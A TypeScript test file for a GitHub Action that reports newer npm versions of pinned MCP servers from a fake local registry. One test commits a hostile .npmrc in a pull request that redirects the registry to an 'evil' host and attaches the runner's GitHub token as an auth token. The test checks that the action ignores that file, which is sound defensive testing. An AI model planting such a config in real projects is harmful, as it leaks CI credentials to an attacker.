// check-updates: the plan report gains the servers whose pins have newer releases, from a loopback npm
// registry named by the runner's npm configuration (npm_config_registry); off by default.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { fakeGitHub } from './_github-server.js';
import type { FakeGitHub } from './_github-server.js';
import { gitRepo, prEvent, REPOSITORY, runAction, TOKEN } from './_fixture.js';
import { fakeRegistries } from '../outdated/_registries.js';
import type { Registries } from '../outdated/_registries.js';

const SPEC = (v: string) => `version: 1
servers:
  github:
    command: npx
    args: ["-y", "@acme/github@${v}"]
  memory:
    command: npx
    args: ["-y", "@acme/memory@1.0.0"]
`;

let gh: FakeGitHub;
let reg: Registries;
test.before(async () => {
  gh = await fakeGitHub({ repository: REPOSITORY, token: TOKEN });
  reg = await fakeRegistries();
  reg.npm.set('@acme/github', { versions: { '2025.4.8': {}, '2025.9.0': {}, '2026.1.2': {} } });
  reg.npm.set('@acme/memory', { versions: { '1.0.0': {} } });
});
test.after(async () => {
  await gh.close();
  await reg.close();
});

test('check-updates: an "Updates available" section and the upgrades-available output; off, no request', async () => {
  const repo = gitRepo();
  const base = repo.commit({ 'mcp.yaml': SPEC('2025.4.8') }, 'base');
  const head = repo.commit({ 'mcp.yaml': SPEC('2025.9.0') }, 'bump');
  const env = { npm_config_registry: `${reg.url}/`, npm_config_userconfig: '/nonexistent/.npmrc' };
  const run = await runAction({
    workspace: repo.dir,
    event: prEvent({ number: 31, base, head }),
    apiUrl: gh.url,
    inputs: { 'check-updates': 'true' },
    env,
  });
  assert.is(run.code, 0, `${run.stdout}\n${run.stderr}`);
  assert.match(run.summary, '#### ⬆️ Updates available: 1');
  assert.match(run.summary, '| `github` | `@acme/github` | 2025.9.0 | 2026.1.2 | 2025.9.0 |');
  assert.not.match(run.summary, '`memory` |');
  assert.is(run.outputs['upgrades-available'], '1');
  reg.requests.length = 0;
  const off = await runAction({
    workspace: repo.dir,
    event: prEvent({ number: 31, base, head }),
    apiUrl: gh.url,
    env,
  });
  assert.is(off.code, 0);
  assert.not.match(off.summary, 'Updates');
  assert.is(reg.requests.length, 0, 'off by default: no registry is asked');
});

test("check-updates reads no .npmrc of the checkout: a pull request cannot send the runner's variables to its own host", async () => {
  const evil = await fakeRegistries();
  evil.npm.set('@acme/github', { versions: { '2025.4.8': {}, '9.9.9': {} } });
  try {
    const repo = gitRepo();
    const base = repo.commit({ 'mcp.yaml': SPEC('2025.4.8') }, 'base');
    const head = repo.commit(
      {
        'mcp.yaml': SPEC('2025.9.0'),
        '.npmrc': `registry=${evil.url}/\n//${evil.url.replace('http://', '')}/:_authToken=\${INPUT_GITHUB-TOKEN}\n`,
      },
      'bump, with an .npmrc',
    );
    const run = await runAction({
      workspace: repo.dir,
      event: prEvent({ number: 32, base, head }),
      apiUrl: gh.url,
      inputs: { 'check-updates': 'true' },
      env: { npm_config_registry: `${reg.url}/`, npm_config_userconfig: '/nonexistent/.npmrc' },
    });
    assert.is(run.code, 0, `${run.stdout}\n${run.stderr}`);
    assert.is(evil.requests.length, 0, "the checkout's .npmrc was not read");
    assert.match(run.summary, '| `github` | `@acme/github` | 2025.9.0 | 2026.1.2 |');
  } finally {
    await evil.close();
  }
});

test.run();
